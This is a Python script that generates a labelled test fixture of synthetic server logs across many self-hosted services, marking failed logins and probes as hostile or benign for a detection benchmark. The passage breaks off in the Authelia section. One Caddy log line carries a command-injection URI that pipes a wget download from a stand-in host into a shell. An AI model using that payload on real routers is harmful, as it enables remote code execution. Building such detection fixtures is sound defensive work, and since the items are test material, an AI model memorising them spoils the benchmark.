#!/usr/bin/env python3
"""Writes the held-out security fixture: per service NAME.log and NAME.labels.jsonl.
Each entry: (label, host, line). label: 'H' hostile (host = the attacker), 'B' benign, None = not scored."""
import json, os, sys
from collections import Counter
H, B, N = 'H', 'B', None
J = lambda o: json.dumps(o, separators=(',', ':'))
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"

S = {}
S['gitea'] = ('tune', [
 (B, None, "2024/03/11 08:00:01 cmd/web.go:223:runWeb() [I] Listen: http://0.0.0.0:3000"),
 (B, None, "2024/03/11 08:12:40 ...eb/routing/logger.go:102:func1() [I] router: completed GET /user/login for 203.0.113.45:51544, 200 OK in 3.1ms @ auth/auth.go:147(auth.SignIn)"),
 (H, "203.0.113.45", "2024/03/11 08:12:44 ...ers/web/auth/auth.go:206:SignInPost() [I] Failed authentication attempt for admin from 203.0.113.45:51544: user does not exist [uid: 0, name: admin]"),
 (H, "203.0.113.45", "2024/03/11 08:12:47 ...ers/web/auth/auth.go:206:SignInPost() [I] Failed authentication attempt for root from 203.0.113.45:51544: user does not exist [uid: 0, name: root]"),
 (H, "198.51.100.23", "2024/03/11 08:31:02 ...ers/web/auth/auth.go:206:SignInPost() [I] Failed authentication attempt for alice from 198.51.100.23:40122: user's password is invalid [uid: 3, name: alice]"),
 (B, None, "2024/03/11 08:31:20 ...eb/routing/logger.go:102:func1() [I] router: completed POST /user/login for 198.51.100.40:53120, 303 See Other in 85.2ms @ auth/auth.go:170(auth.SignInPost)"),
 (N, None, "2024/03/11 09:02:11 modules/ssh/ssh.go:280:sshConnectionFailed() [W] Failed connection from 192.0.2.77:57094 with error: [ssh: no auth passed yet, permission denied (publickey)]"),
 (H, "192.0.2.77", "2024/03/11 09:02:11 modules/ssh/ssh.go:281:sshConnectionFailed() [W] Failed authentication attempt from 192.0.2.77:57094"),
 (B, None, "2024/03/11 10:15:33 ...ices/mailer/mailer.go:389:func1() [E] Failed to send emails [<alice@example.org>]: dial tcp 10.0.0.25:587: connect: connection refused - 1 attempts"),
 (B, None, "2024/03/11 10:20:00 ...dules/cron/tasks.go:113:RunWithUser() [I] Starting task: update_mirrors"),
 (B, None, "2024/03/11 10:21:05 ...ers/web/repo/http.go:178:httpBase() [I] Pushing to repository alice/dotfiles denied: this repository is archived"),
])
S['vaultwarden'] = ('tune', [
 (B, None, "[2024-03-11 07:59:58.001][start][INFO] Rocket has launched from http://0.0.0.0:80"),
 (H, "203.0.113.61", "[2024-03-11 08:12:44.201][vaultwarden::api::identity][ERROR] Username or password is incorrect. Try again. IP: 203.0.113.61. Username: admin@example.com."),
 (N, None, "[2024-03-11 08:12:44.202][response][INFO] (login) POST /identity/connect/token => 400 Bad Request"),
 (H, "203.0.113.61", "[2024-03-11 08:12:49.617][vaultwarden::api::identity][ERROR] Username or password is incorrect. Try again. IP: 203.0.113.61. Username: info@example.com."),
 (H, "198.51.100.7", "[2024-03-11 08:30:02.118][vaultwarden::api::admin][ERROR] Invalid admin token. IP: 198.51.100.7"),
 (H, "192.0.2.203", "[2024-03-11 09:01:19.552][vaultwarden::api::core::two_factor::authenticator][ERROR] Invalid TOTP code! Server time: 2024-03-11 09:01:19 UTC IP: 192.0.2.203"),
 (H, "192.0.2.203", "[2024-03-11 09:03:40.014][vaultwarden::api::core::sends][ERROR] Invalid password. IP: 192.0.2.203."),
 (B, None, "[2024-03-11 08:40:10.450][vaultwarden::api::identity][INFO] User alice@example.com logged in successfully. IP: 198.51.100.40"),
 (B, None, "[2024-03-11 09:30:12.881][vaultwarden::mail][ERROR] SMTP error: Connection error: Connection refused (os error 111)"),
 (B, None, "[2024-03-11 09:50:21.311][vaultwarden::api::icons][WARN] Unable to download icon: IP 10.0.0.5 for domain 'router.lan' is not a global IP!"),
 (B, None, "[2024-03-11 10:00:00.004][vaultwarden::api::core::events][INFO] Cleaning up old events"),
])
def kc(ts, level, body): return f"{ts} {level:5} [org.keycloak.events] (executor-thread-12) {body}"
S['keycloak'] = ('tune', [
 (B, None, "2024-03-11 08:00:03,118 INFO  [io.quarkus] (main) Keycloak 24.0.1 on JVM (powered by Quarkus 3.8.1) started in 9.182s. Listening on: http://0.0.0.0:8080"),
 (H, "203.0.113.120", kc("2024-03-11 08:12:44,579", "WARN", 'type="LOGIN_ERROR", realmId="8d1c5f0e-2b7a-4c1e-9f3d-0a6b2c4d8e10", realmName="corp", clientId="account-console", userId="null", ipAddress="203.0.113.120", error="user_not_found", auth_method="openid-connect", auth_type="code", redirect_uri="https://sso.example.org/realms/corp/account/", code_id="5e0b8f1a-93d2-4a47-b1c6-2f8e7d9a0c31", username="admin"')),
 (H, "198.51.100.33", kc("2024-03-11 08:31:09,002", "WARN", "type=LOGIN_ERROR, realmId=corp, clientId=grafana, userId=693a7ee3-4755-4ea2-90a9-083369856b3e, ipAddress=198.51.100.33, error=invalid_user_credentials, auth_method=openid-connect, grant_type=password, client_auth_method=client-secret, username=alice")),
 (H, "192.0.2.50", kc("2024-03-11 08:45:12,771", "WARN", "type=CLIENT_LOGIN_ERROR, realmId=master, clientId=admin-cli, userId=null, ipAddress=192.0.2.50, error=invalid_client_credentials, grant_type=client_credentials")),
 (H, "192.0.2.50", kc("2024-03-11 08:46:30,115", "WARN", "type=LOGIN_ERROR, realmId=corp, clientId=account-console, userId=693a7ee3-4755-4ea2-90a9-083369856b3e, ipAddress=192.0.2.50, error=user_temporarily_disabled, auth_method=openid-connect, auth_type=code, username=alice")),
 (B, None, kc("2024-03-11 08:20:11,002", "DEBUG", "type=LOGIN, realmId=corp, clientId=account-console, userId=4f1e2d3c-5b6a-4798-8a9b-0c1d2e3f4a5b, ipAddress=198.51.100.40, auth_method=openid-connect, auth_type=code, redirect_uri=https://sso.example.org/realms/corp/account/, consent=no_consent_required, code_id=7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d, username=maria")),
 (B, None, kc("2024-03-11 08:20:11,090", "DEBUG", "type=CODE_TO_TOKEN, realmId=corp, clientId=account-console, userId=4f1e2d3c-5b6a-4798-8a9b-0c1d2e3f4a5b, ipAddress=198.51.100.40, token_id=0a1b2c3d, grant_type=authorization_code, client_auth_method=client-secret")),
 (B, None, "2024-03-11 09:12:55,701 ERROR [org.keycloak.services] (executor-thread-2) KC-SERVICES0035: Failed to send email: com.sun.mail.util.MailConnectException: Couldn't connect to host, port: smtp.example.org, 587; timeout -1"),
 (B, None, "2024-03-11 09:30:00,004 INFO  [org.keycloak.services.scheduled.ScheduledTaskRunner] (Timer-0) Executed scheduled task ClearExpiredEvents"),
])
def ha(ts, lvl, logger, msg): return f"{ts} {lvl} (MainThread) [{logger}] {msg}"
S['homeassistant'] = ('tune', [
 (B, None, ha("2024-03-11 08:00:05.118", "INFO", "homeassistant.bootstrap", "Home Assistant initialized in 14.23s")),
 (H, "203.0.113.77", ha("2024-03-11 08:12:44.579", "WARNING", "homeassistant.components.http.ban", f"Login attempt or request with invalid authentication from 203.0.113.77 (203.0.113.77). Requested URL: '/auth/login_flow/7c9a0e1b2d3f4a5b6c7d8e9f0a1b2c3d'. ({UA})")),
 (H, "203.0.113.77", ha("2024-03-11 08:12:51.002", "WARNING", "homeassistant.components.http.ban", f"Login attempt or request with invalid authentication from scan-77.example.net (203.0.113.77). Requested URL: '/auth/login_flow/7c9a0e1b2d3f4a5b6c7d8e9f0a1b2c3d'. ({UA})")),
 (H, "203.0.113.77", ha("2024-03-11 08:13:01.002", "WARNING", "homeassistant.components.http.ban", "Banned IP 203.0.113.77 for too many login attempts")),
 (H, "198.51.100.201", ha("2024-03-11 09:42:26.310", "WARNING", "homeassistant.components.http.ban", "Login attempt or request with invalid authentication from 198.51.100.201 (198.51.100.201). Requested URL: '/media/wp-includes/wlwmanifest.xml'. (Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36)")),
 (B, None, ha("2024-03-11 08:05:11.320", "WARNING", "homeassistant.components.mqtt.client", "Error returned from MQTT server: The connection was refused.")),
 (B, None, ha("2024-03-11 08:30:02.019", "ERROR", "homeassistant.components.unifi", "Error connecting to the UniFi Network at 192.168.1.1: Authentication failed")),
 (B, None, ha("2024-03-11 09:00:01.552", "ERROR", "homeassistant.components.http.forwarded", "A request from a reverse proxy was received from 172.30.33.0, but your HTTP integration is not set-up for reverse proxies")),
 (B, None, ha("2024-03-11 09:10:00.001", "INFO", "homeassistant.components.automation.hallway_lights", "Hallway lights: Running automation actions")),
 (B, None, ha("2024-03-11 09:20:44.870", "WARNING", "homeassistant.components.websocket_api.http.connection", "[140213] Disconnected: Did not receive auth message within 10 seconds")),
])
S['mosquitto'] = ('tune', [
 (B, None, "1710144000: mosquitto version 2.0.18 running"),
 (N, None, "1710144764: New connection from 203.0.113.5:51544 on port 1883."),
 (H, "203.0.113.5", "1710144764: Client <unknown> [203.0.113.5:51544] disconnected: not authorised."),
 (N, None, "1710144770: New connection from 203.0.113.5:51560 on port 1883."),
 (H, "203.0.113.5", "1710144770: Client mqttx_3a1b2c [203.0.113.5:51560] disconnected: not authorised."),
 (H, "198.51.100.44", "2024-03-11T08:20:00: Client auto-1F2E3D4C [198.51.100.44:40022] disconnected: not authorised."),
 (B, None, "1710144800: New client connected from 198.51.100.40:53120 as zigbee2mqtt (p2, c1, k60, u'z2m')."),
 (B, None, "1710144900: Client zigbee2mqtt closed its connection."),
 (B, None, "1710145200: Saving in-memory database to /var/lib/mosquitto/mosquitto.db."),
 (B, None, "1710145300: Socket error on client homeassistant, disconnecting."),
 (B, None, "1710145400: Client shellyplus1-a8032ab1 has exceeded timeout, disconnecting."),
])
def rmq(ts, lvl, pid, msg): return f"2024-03-11 {ts}+00:00 [{lvl}] <0.{pid}.0> {msg}"
S['rabbitmq'] = ('tune', [
 (B, None, rmq("08:00:00.118204", "info", 600, "Server startup complete; 5 plugins started.")),
 (N, None, rmq("08:12:44.570012", "info", 1021, "accepting AMQP connection <0.1021.0> (203.0.113.140:51544 -> 10.0.0.5:5672)")),
 (N, None, rmq("08:12:44.579512", "error", 1021, "Error on AMQP connection <0.1021.0> (203.0.113.140:51544 -> 10.0.0.5:5672, state: starting):")),
 (H, "203.0.113.140", rmq("08:12:44.579600", "error", 1021, "PLAIN login refused: user 'guest' - invalid credentials")),
 (H, "198.51.100.70", J({"time": "2024-03-11 08:30:02.118771+00:00", "level": "error", "msg": "Error on AMQP connection <0.1100.0> (198.51.100.70:40122 -> 10.0.0.5:5672, state: starting):\nPLAIN login refused: user 'admin' - invalid credentials", "pid": "<0.1100.0>", "domain": "rabbitmq.connection"})),
 (N, None, rmq("08:35:12.005521", "warning", 1140, "HTTP access denied: user 'admin' - invalid credentials")),
 (B, None, rmq("08:20:00.118204", "info", 1050, "accepting AMQP connection <0.1050.0> (10.0.0.12:44102 -> 10.0.0.5:5672)")),
 (B, None, rmq("08:20:00.131877", "info", 1050, "connection <0.1050.0> (10.0.0.12:44102 -> 10.0.0.5:5672): user 'app' authenticated and granted access to vhost '/'")),
 (B, None, rmq("09:05:40.551120", "warning", 1060, "closing AMQP connection <0.1060.0> (10.0.0.12:44110 -> 10.0.0.5:5672, vhost: '/', user: 'app'):")),
 (B, None, rmq("09:05:40.551300", "warning", 1060, "client unexpectedly closed TCP connection")),
 (B, None, rmq("09:30:00.000110", "info", 700, "Free disk space is sufficient. Free bytes: 43214811136. Limit: 50000000")),
])
S['freeradius'] = ('tune', [
 (B, None, "Mon Mar 11 08:00:00 2024 : Info: Ready to process requests"),
 (H, "203.0.113.99", "Mon Mar 11 08:12:44 2024 : Error: Ignoring request to auth address * port 1812 bound to server default from unknown client 203.0.113.99 port 50123 proto udp"),
 (H, "203.0.113.99", "Mon Mar 11 08:12:46 2024 : Error: Ignoring request to auth address * port 1812 bound to server default from unknown client 203.0.113.99 port 50124 proto udp"),
 (H, "198.51.100.3", "Mon Mar 11 08:40:02 2024 : Error: Dropping packet without response because of error: Received packet from 198.51.100.3 with invalid Message-Authenticator!  (Shared secret is incorrect.)"),
 (N, None, "Mon Mar 11 08:50:10 2024 : Auth: (1140) Login incorrect (pap: Cleartext password does not match \"known good\" password): [bob/<via Auth-Type = PAP>] (from client ap-lobby port 0 cli 02-00-00-00-00-01)"),
 (N, None, "Mon Mar 11 08:50:12 2024 : Auth: (1141) Invalid user: [guest] (from client ap-lobby port 0 cli 02-00-00-00-00-07)"),
 (B, None, "Mon Mar 11 08:20:00 2024 : Auth: (1129) Login OK: [maria] (from client ap-lobby port 1 cli 02-00-00-00-00-02)"),
 (B, None, "Mon Mar 11 09:00:00 2024 : Warning: Please use tls_min_version and tls_max_version instead of disable_tlsv1"),
 (B, None, "Mon Mar 11 09:10:00 2024 : Info: ... adding new socket proxy (10.0.0.5, 44583) -> home_server (10.0.0.8, 2083)"),
])
def pg(ts, pid, who, rest): return f"2024-03-11 {ts} UTC [{pid}] {who}{rest}"
S['postgresql'] = ('tune', [
 (N, None, pg("08:12:44.570", 31022, "[unknown]@[unknown] ", "LOG:  connection received: host=203.0.113.101 port=51544")),
 (H, "203.0.113.101", pg("08:12:44.579", 31022, "postgres@postgres ", "FATAL:  password authentication failed for user \"postgres\"")),
 (N, None, pg("08:12:44.579", 31022, "postgres@postgres ", "DETAIL:  Connection matched pg_hba.conf line 100: \"host all all 0.0.0.0/0 scram-sha-256\"")),
 (H, "203.0.113.101", pg("08:12:50.004", 31030, "sa@postgres ", "FATAL:  no pg_hba.conf entry for host \"203.0.113.101\", user \"sa\", database \"postgres\", SSL off")),
 (H, "198.51.100.222", "2024-03-11 08:40:02.118 UTC [31100] admin@app 198.51.100.222 FATAL:  password authentication failed for user \"admin\""),
 (B, None, pg("08:20:00.001", 31050, "app@appdb ", "LOG:  connection authorized: user=app database=appdb application_name=psql")),
 (B, None, pg("08:25:00.118", 29001, "", "LOG:  checkpoint starting: time")),
 (B, None, pg("08:30:00.118", 31060, "app@appdb ", "ERROR:  permission denied for table invoices")),
 (B, None, pg("08:30:00.118", 31060, "app@appdb ", "STATEMENT:  SELECT * FROM invoices")),
 (B, None, pg("08:35:10.440", 31070, "app@appdb ", "LOG:  could not receive data from client: Connection reset by peer")),
 (B, None, pg("08:36:00.000", 29000, "", "LOG:  database system is ready to accept connections")),
])
S['minecraft'] = ('tune', [
 (B, None, "[08:00:05] [Server thread/INFO]: Done (6.802s)! For help, type \"help\""),
 (N, None, "[08:12:44] [User Authenticator #3/INFO]: UUID of player Griefer is 2b6f0e3c-8a1d-4f2e-9c7b-5d4a3e2f1b0c"),
 (H, "203.0.113.5", "[08:12:44] [Server thread/INFO]: com.mojang.authlib.GameProfile@1a2b3c4d[id=2b6f0e3c-8a1d-4f2e-9c7b-5d4a3e2f1b0c,name=Griefer,properties={textures=[]},legacy=false] (/203.0.113.5:51544) lost connection: You are not white-listed on this server!"),
 (H, "198.51.100.17", "[08:30:02] [User Authenticator #4/INFO]: Disconnecting com.mojang.authlib.GameProfile@5e6f7a8b[id=<null>,name=Notch,properties={},legacy=false] (/198.51.100.17:40122): Failed to verify username!"),
 (B, None, "[08:20:00] [Server thread/INFO]: Steve[/198.51.100.40:53120] logged in with entity id 123 at (1.5, 64.0, -3.2)"),
 (B, None, "[08:20:00] [Server thread/INFO]: Steve joined the game"),
 (B, None, "[08:50:00] [Server thread/INFO]: Steve left the game"),
 (B, None, "[09:00:00] [Server thread/WARN]: Can't keep up! Is the server overloaded? Running 2030ms or 40 ticks behind"),
 (B, None, "[09:10:00] [Server thread/INFO]: Steve lost connection: Disconnected"),
])
def caddy(ts, ip, method, host, uri, status, ua="Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", extra=None):
    req = {"remote_ip": ip, "remote_port": "51544", "client_ip": ip, "proto": "HTTP/1.1", "method": method, "host": host, "uri": uri, "headers": {"User-Agent": [ua], "Accept": ["*/*"]}}
    if extra: req["headers"].update(extra)
    return J({"level": "info", "ts": ts, "logger": "http.log.access.log0", "msg": "handled request", "request": req, "bytes_read": 0, "user_id": "", "duration": 0.000412, "size": 0 if status >= 400 else 5120, "status": status, "resp_headers": {"Server": ["Caddy"]}})
S['caddy'] = ('tune', [
 (B, None, J({"level": "info", "ts": 1710144000.118, "logger": "tls.obtain", "msg": "certificate obtained successfully", "identifier": "example.org"})),
 (H, "203.0.113.25", caddy(1710144764.579, "203.0.113.25", "GET", "example.org", "/.env", 404, ua="Mozilla/5.0 zgrab/0.x")),
 (H, "203.0.113.25", caddy(1710144765.001, "203.0.113.25", "GET", "example.org", "/wp-login.php", 404, ua="Mozilla/5.0 zgrab/0.x")),
 (H, "198.51.100.8", caddy(1710145000.220, "198.51.100.8", "GET", "admin.example.org", "/", 401, extra={"Authorization": ["REDACTED"]})),
 (H, "198.51.100.8", caddy(1710145001.330, "198.51.100.8", "GET", "example.org", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F203.0.113.1%2Ft%7Csh%60)", 404, ua="Go-http-client/1.1")),
 (B, None, caddy(1710144800.100, "198.51.100.40", "GET", "example.org", "/", 200)),
 (B, None, caddy(1710144800.300, "198.51.100.40", "GET", "example.org", "/assets/app.js", 304)),
 (B, None, caddy(1710144801.000, "198.51.100.40", "POST", "example.org", "/api/login", 200)),
 (B, None, J({"level": "error", "ts": 1710145200.1, "logger": "http.log.error", "msg": "dial tcp 127.0.0.1:8080: connect: connection refused", "request": {"remote_ip": "198.51.100.40", "remote_port": "53120", "client_ip": "198.51.100.40", "proto": "HTTP/2.0", "method": "GET", "host": "example.org", "uri": "/api/items"}, "duration": 0.001, "status": 502, "err_id": "x1y2z3a4b", "err_trace": "reverseproxy.statusError (reverseproxy.go:1269)"})),
 (B, None, J({"level": "error", "ts": 1710146000.5, "logger": "tls.issuance.acme.acme_client", "msg": "challenge failed", "identifier": "shop.example.org", "challenge_type": "http-01", "problem": {"type": "urn:ietf:params:acme:error:unauthorized", "title": "", "detail": "203.0.113.250: Invalid response from http://shop.example.org/.well-known/acme-challenge/Xy7: 404", "instance": "", "subproblems": []}})),
 (B, None, caddy(1710146100.000, "10.0.0.2", "GET", "example.org", "/healthz", 200, ua="kube-probe/1.29")),
])
def syn(ts, logger, line, ctx, msg): return f"2024-03-11 {ts} - {logger} - {line} - INFO - {ctx} - {msg}"
S['synapse'] = ('tune', [
 (N, None, syn("08:12:44,578", "synapse.handlers.auth", 1384, "POST-1201", "Failed password login for user @admin:example.org")),
 (H, "203.0.113.160", syn("08:12:44,579", "synapse.access.http.8008", 473, "POST-1201", '203.0.113.160 - 8008 - {None} Processed request: 0.210sec/0.001sec (0.003sec, 0.000sec) (0.001sec/0.004sec/2) 58B 403 "POST /_matrix/client/v3/login HTTP/1.1" "python-requests/2.31.0" [0 dbevts]')),
 (H, "203.0.113.160", syn("08:12:46,112", "synapse.access.http.8008", 473, "POST-1202", '203.0.113.160 - 8008 - {None} Processed request: 0.198sec/0.001sec (0.002sec, 0.000sec) (0.001sec/0.003sec/2) 58B 403 "POST /_matrix/client/v3/login HTTP/1.1" "python-requests/2.31.0" [0 dbevts]')),
 (H, "198.51.100.171", syn("08:40:02,004", "synapse.access.http.8008", 473, "POST-1250", '198.51.100.171 - 8008 - {None} Processed request: 0.001sec/0.000sec (0.000sec, 0.000sec) (0.000sec/0.000sec/0) 97B 429 "POST /_matrix/client/v3/login HTTP/1.1" "curl/8.5.0" [0 dbevts]')),
 (B, None, syn("08:20:00,220", "synapse.handlers.auth", 1790, "POST-1300", "Logging in user @maria:example.org on device ABCDEFGHIJ")),
 (B, None, syn("08:20:00,231", "synapse.access.http.8008", 473, "POST-1300", '198.51.100.40 - 8008 - {@maria:example.org} Processed request: 0.120sec/0.001sec (0.004sec, 0.000sec) (0.003sec/0.010sec/4) 512B 200 "POST /_matrix/client/v3/login HTTP/1.1" "Element/1.11.58" [0 dbevts]')),
 (B, None, syn("08:21:30,500", "synapse.access.http.8008", 473, "GET-1310", '198.51.100.40 - 8008 - {@maria:example.org} Processed request: 30.002sec/0.001sec (0.004sec, 0.000sec) (0.001sec/0.002sec/1) 291B 200 "GET /_matrix/client/v3/sync?timeout=30000&since=s123_456 HTTP/1.1" "Element/1.11.58" [0 dbevts]')),
 (B, None, syn("09:00:00,118", "synapse.access.http.8008", 473, "GET-1400", '198.51.100.41 - 8008 - {None} Processed request: 0.002sec/0.001sec (0.000sec, 0.000sec) (0.000sec/0.000sec/0) 96B 401 "GET /_matrix/client/v3/sync?timeout=30000 HTTP/1.1" "Element/1.11.58" [0 dbevts]')),
 (B, None, "2024-03-11 09:05:00,440 - synapse.http.matrixfederationclient - 740 - WARNING - federation_transaction_transmission_loop-1234 - {PUT-O-123} [matrix.example.net] Request failed: PUT matrix-federation://matrix.example.net/_matrix/federation/v1/send/1710147900: ConnectionRefusedError('Connection was refused by other side: 111: Connection refused.')"),
])
def osm(ts, sid, msg): return f"Mar 11 {ts} mx smtpd[2201]: {sid} {msg}"
S['opensmtpd'] = ('tune', [
 (N, None, osm("08:12:40", "4a3f1e2b0c9d8e7f", "smtp connected address=203.0.113.33 host=<unknown>")),
 (H, "203.0.113.33", osm("08:12:44", "4a3f1e2b0c9d8e7f", "smtp authentication user=admin@example.org address=203.0.113.33 host=<unknown> result=permfail")),
 (N, None, osm("08:12:44", "4a3f1e2b0c9d8e7f", 'smtp failed-command command="AUTH LOGIN" result="535 Authentication failed"')),
 (N, None, osm("08:40:00", "9b8c7d6e5f4a3b2c", "smtp connected address=198.51.100.130 host=relay-probe.example.net")),
 (H, "198.51.100.130", osm("08:40:02", "9b8c7d6e5f4a3b2c", "smtp authentication user=test address=198.51.100.130 host=relay-probe.example.net result=permfail")),
 (B, None, osm("08:20:00", "1a2b3c4d5e6f7a8b", "smtp connected address=198.51.100.40 host=laptop.example.org")),
 (B, None, osm("08:20:01", "1a2b3c4d5e6f7a8b", "smtp tls ciphers=TLSv1.3:TLS_AES_256_GCM_SHA384:256")),
 (B, None, osm("08:20:02", "1a2b3c4d5e6f7a8b", "smtp authentication user=maria address=198.51.100.40 host=laptop.example.org result=ok")),
 (B, None, osm("08:20:03", "1a2b3c4d5e6f7a8b", "smtp message msgid=0f1e2d3c size=1843 nrcpt=1 proto=ESMTP")),
 (B, None, osm("08:20:04", "1a2b3c4d5e6f7a8b", "smtp disconnected reason=quit")),
 (B, None, osm("08:25:00", "7f6e5d4c3b2a1908", "mta error reason=Connection refused")),
])
S['prosody'] = ('tune', [
 (N, None, "Mar 11 08:12:40 c2s55d1e2f0\tinfo\tClient connected"),
 (H, "203.0.113.81", "Mar 11 08:12:44 c2s55d1e2f0\tinfo\tFailed authentication attempt (not-authorized) for user admin from IP: 203.0.113.81"),
 (H, "203.0.113.81", "Mar 11 08:12:47 c2s55d1e2f0\tinfo\tFailed authentication attempt (not-authorized) for user test from IP: 203.0.113.81"),
 (H, "198.51.100.91", "Mar 11 08:40:02 c2s55e7a910\tinfo\tFailed authentication attempt (not-authorized) for user alice from IP: 198.51.100.91"),
 (B, None, "Mar 11 08:20:00 c2s560a1b2c0\tinfo\tClient connected"),
 (B, None, "Mar 11 08:20:01 c2s560a1b2c0\tinfo\tAuthenticated as maria@example.org"),
 (B, None, "Mar 11 08:20:30 s2sout55e0\tinfo\tOutgoing s2s connection example.org->jabber.example.net complete"),
 (B, None, "Mar 11 08:25:00 s2sout55f0\tinfo\tFailed in all attempts to connect to jabber.broken.example"),
 (B, None, "Mar 11 08:30:00 c2s560a1b2c0\tinfo\tClient disconnected: connection closed"),
 (B, None, "Mar 11 08:31:00 certmanager\terror\tSSL/TLS: Failed to load '/etc/prosody/certs/example.org.key': Check that the permissions allow Prosody to read this file. (for example.org)"),
])

# ---------------------------------------------------------------- test half
def nc(ts, lvl, ip, user, app, method, url, msg, ua=UA):
    return J({"reqId": "W" + ts.replace(":", "")[-10:], "level": lvl, "time": ts, "remoteAddr": ip, "user": user, "app": app, "method": method, "url": url, "message": msg, "userAgent": ua, "version": "28.0.3.2"})
S['nextcloud'] = ('test', [
 (H, "203.0.113.9", nc("2024-03-11T08:12:44+00:00", 2, "203.0.113.9", "--", "core", "POST", "/login", "Login failed: 'admin' (Remote IP: '203.0.113.9')")),
 (H, "203.0.113.9", nc("2024-03-11T08:12:48+00:00", 2, "203.0.113.9", "--", "core", "POST", "/login", "Login failed: 'administrator' (Remote IP: '203.0.113.9')")),
 (H, "198.51.100.80", nc("2024-03-11T08:40:02+00:00", 2, "198.51.100.80", "--", "core", "PROPFIND", "/remote.php/dav/files/jonas/", "Login failed: 'jonas' (Remote IP: '198.51.100.80')", ua="Mozilla/5.0 (Android) Nextcloud-android/3.28.0")),
 (H, "192.0.2.14", nc("2024-03-11T09:01:10+00:00", 1, "192.0.2.14", "--", "core", "POST", "/login", "Bruteforce attempt from \"192.0.2.14\" detected for action \"login\".")),
 (H, "192.0.2.14", nc("2024-03-11T09:01:12+00:00", 2, "192.0.2.14", "--", "no app in context", "POST", "/login", "Login failed: 'test' (Remote IP: '192.0.2.14')")),
 (N, None, nc("2024-03-11T09:10:00+00:00", 2, "203.0.113.200", "--", "core", "GET", "/", "Trusted domain error. \"203.0.113.200\" tried to access using \"198.51.100.1\" as host.")),
 (B, None, nc("2024-03-11T08:20:00+00:00", 1, "198.51.100.40", "jonas", "admin_audit", "POST", "/login", "Login successful: \"jonas\"")),
 (B, None, nc("2024-03-11T08:30:00+00:00", 3, "198.51.100.40", "jonas", "PHP", "GET", "/apps/files/", "fopen(/var/www/nextcloud/data/appdata_oc1/preview/x.png): Failed to open stream: Permission denied at /var/www/nextcloud/lib/private/Files/Storage/Local.php#312")),
 (B, None, nc("2024-03-11T08:35:00+00:00", 2, "", "--", "richdocuments", "", "--", "Failed to fetch the Collabora capabilities endpoint: cURL error 7: Failed to connect to office.example.org port 443 after 3 ms: Connection refused", ua="--")),
 (B, None, nc("2024-03-11T08:50:00+00:00", 1, "", "--", "cron", "", "--", "Finished background job, the job took : 2 sec", ua="--")),
 (B, None, nc("2024-03-11T08:55:00+00:00", 1, "198.51.100.40", "jonas", "admin_audit", "GET", "/logout", "Logout occurred")),
])
def jf(ts, lvl, thr, src, msg): return f"[2024-03-11 {ts} +00:00] [{lvl}] [{thr}] {src}: {msg}"
S['jellyfin'] = ('test', [
 (H, "203.0.113.18", jf("08:12:44.579", "INF", 61, "Jellyfin.Server.Implementations.Users.UserManager", 'Authentication request for "admin" has been denied (IP: "203.0.113.18").')),
 (N, None, jf("08:12:44.580", "ERR", 61, "Jellyfin.Api.Middleware.ExceptionMiddleware", "Error processing request: Invalid username or password entered. URL POST /Users/authenticatebyname.")),
 (H, "203.0.113.18", jf("08:12:47.102", "INF", 61, "Jellyfin.Server.Implementations.Users.UserManager", 'Authentication request for "root" has been denied (IP: "203.0.113.18").')),
 (H, "198.51.100.66", jf("08:40:02.118", "INF", 88, "Jellyfin.Server.Implementations.Users.UserManager", 'Authentication request for "jellyfin" has been denied (IP: "198.51.100.66").')),
 (B, None, jf("08:20:01.003", "INF", 45, "Jellyfin.Server.Implementations.Users.UserManager", 'Authentication request for "maria" has succeeded.')),
 (B, None, jf("08:40:12.118", "ERR", 12, "MediaBrowser.Providers.Manager.ProviderManager", "Error downloading image https://image.tmdb.org/t/p/original/abc.jpg: The SSL connection could not be established, see inner exception.")),
 (B, None, jf("09:00:00.000", "INF", 7, "Emby.Server.Implementations.ScheduledTasks.TaskManager", '"Clean Log Directory" Completed after 0 minute(s) and 0 seconds')),
 (N, None, jf("09:10:31.221", "INF", 21, "Jellyfin.Api.Auth.CustomAuthenticationHandler", "CustomAuthentication was not authenticated. Failure message: Invalid token.")),
 (B, None, jf("09:15:02.441", "INF", 33, "Emby.Server.Implementations.Session.SessionManager", 'Playback stopped reported by app "Jellyfin Web" "10.8.13" playing "Big Buck Bunny". Stopped at "4567891" ms')),
 (B, None, jf("09:20:10.005", "WRN", 19, "Emby.Server.Implementations.HttpServer.WebSocketConnection", 'WS "198.51.100.40" error receiving data: "The remote party closed the WebSocket connection without completing the close handshake."')),
])
S['authelia'] = ('test', [
 (B, None, 'time="2024-03-11T08:00:00Z" level=info msg="Startup complete"'),
 (B, None, "time=\"2024-03-11T08:00:00Z\" level=info msg=\"Listening for non-TLS connections on '[::]:9091' path '/'\" server=main service=server"),
 (H, "203.0.113.200", "time=\"2024-03-11T08:12:44Z\" level=error msg=\"Unsuccessful 1FA authentication attempt by user 'admin'\" error=\"user not found\" method=POST path=/api/firstfactor remote_ip=203.0.113.200"),
 (H, "203.0.113.200", "time=\"2024-03-11T08:12:51Z\" level=error msg=\"Unsuccessful 1FA authentication attempt by user 'admin' and they are banned until 8:17:51AM on March 11 2024 (+00:00)\" method=POST path=/api/firstfactor remote_ip=203.0.113.200"),
 (H, "198.51.100.150", "time=\"2024-03-11T08:30:40Z\" level=error msg=\"Unsuccessful TOTP authentication attempt by user 'john'\" error=\"validation failed\" method=POST path=/api/secondfactor/totp remote_ip=198.51.100.150"),
 (H, "198.51.100.150", J({"level": "error", "method": "POST", "msg": "Unsuccessful 1FA authentication attempt by user 'john'", "path": "/api/firstfactor", "remote_ip": "198.51.100.150", "time": "2024-03-11T08:31:02Z", "error": "invalid credentials"})),
 (B, None, "time=\"2024-03-11T08:20:00Z\" level=info msg=\"Access to https://nextcloud.example.org/ (method GET) is not authorized to user <anonymous>, responding with status code 401 with location redirect to https://auth.example.org/?rd=https%3A%2F%2Fnextcloud.example.org%2F&rm=GET\" method=GET path=/api/authz/forward-auth remote_ip=198.51.100.40"),
